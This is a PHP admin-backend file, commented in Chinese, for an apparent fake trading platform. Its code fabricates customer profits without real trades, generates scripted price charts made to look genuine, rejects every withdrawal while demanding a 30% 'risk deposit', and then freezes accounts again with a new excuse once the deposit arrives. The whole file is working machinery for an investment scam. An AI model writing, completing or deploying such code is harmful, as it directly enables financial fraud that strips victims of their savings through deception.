<?php
// 汇鑫国际 交易后台 —— 管理员操作
// huixin-trade.example/admin

namespace Admin;

use Model\Member;
use Model\Quote;
use Model\Withdraw;

class TradeAdmin
{
    // 客户看到的盈亏由这里决定：管理员输入金额，直接写入会员账户
    public function setProfit(int $memberId, float $amount, string $note = ''): void
    {
        $member = Member::find($memberId);
        $member->balance += $amount;            // 不经过任何真实成交
        $member->today_profit = $amount;
        $member->save();
        Log::admin('set_profit', [
            'member' => $memberId,
            'amount' => $amount,
            'note'   => $note,                  // 例：新客户首日小赚，建立信任
        ]);
    }

    // 行情：不接任何交易所，按后台设定的走势生成 K 线
    public function quote(string $symbol, int $minute): array
    {
        $plan = Quote::plan($symbol);          // 管理员预先画好的走势
        $base = $plan->base;
        $price = $base + $plan->trend * $minute
            + sin($minute / 7) * $plan->swing;  // 加一点波动，看起来像真的
        return [
            'symbol' => $symbol,
            'price'  => round($price, 2),
            'time'   => $minute,
        ];
    }

    // 提现审核：一律拒绝，提示缴纳保证金
    public function withdrawAudit(int $withdrawId): array
    {
        $w = Withdraw::find($withdrawId);
        $w->status = 'rejected';               // 审核拒绝
        $w->save();
        $deposit = round($w->amount * 0.30, 2);
        return [
            'ok'      => false,
            'message' => '您的账户存在异常交易，资金已被风控冻结。'
                . '请缴纳提现金额 30% 的风险保证金后解冻。',
            'deposit' => $deposit,              // 保证金同样进入收款卡
        ];
    }

    // 保证金到账后：再次冻结，理由换成“流水不足”
    public function afterDeposit(int $memberId): void
    {
        Member::find($memberId)->freeze('流水不足，需完成三倍流水');
    }
}
